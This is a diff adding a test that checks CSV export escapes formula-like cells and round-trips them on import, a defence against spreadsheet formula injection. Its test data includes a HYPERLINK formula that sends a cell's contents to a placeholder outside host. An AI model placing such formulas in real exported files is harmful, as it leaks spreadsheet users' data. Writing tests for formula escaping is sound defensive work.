@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from pilothouse.domain.datasets import DatasetError, DatasetItem
+from pilothouse.domain.spreadsheet import escape_formula
 from pilothouse.evals.datasets import read_items, write_items
 from pilothouse.store.evals import EvalStore
 
@@ -118,3 +119,35 @@ def test_stored_items_stream_in_pages(eval_store: EvalStore) -> None:
     out = io.StringIO()
     write_items((i for _, i in eval_store.iter_items(version.id)), out, "jsonl")
     assert out.getvalue().count("\n") == 2500
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x/?"&A1)',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "=1",
+    "'=quoted",
+    "''-x",
+    "'plain",
+]
+
+
+def test_csv_export_escapes_formulas_and_imports_them_back(tmp_path: Path) -> None:
+    """Issue 21 class 10: a cell that a spreadsheet would run as a formula is written with a leading
+    single quote (OWASP), and importing the file gives back the values exactly."""
+    items = [DatasetItem(str(n), {"topic": value}, value, {}) for n, value in enumerate(FORMULAS)]
+    buffer = io.StringIO()
+    write_items(items, buffer, "csv")
+    lines = buffer.getvalue().split("\n")
+    assert lines[1].startswith("0,\"'=HYPERLINK(")
+    assert lines[2] == "1,'+1,'+1"
+    assert lines[4] == "3,'@SUM(A1),'@SUM(A1)"
+    assert lines[8] == "7,'''-x,'''-x"  # quotes before a trigger: one more, so that import is exact
+    assert lines[9] == "8,'plain,'plain"  # a quote before text that is no formula stays as it is
+    path = tmp_path / "items.csv"
+    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
+    back = list(read_items(path))
+    assert [(b.input["topic"], b.expected) for b in back] == [(v, v) for v in FORMULAS]
+    assert escape_formula("\rx") == "'\rx" and escape_formula(-1.5) == -1.5  # numbers are not text
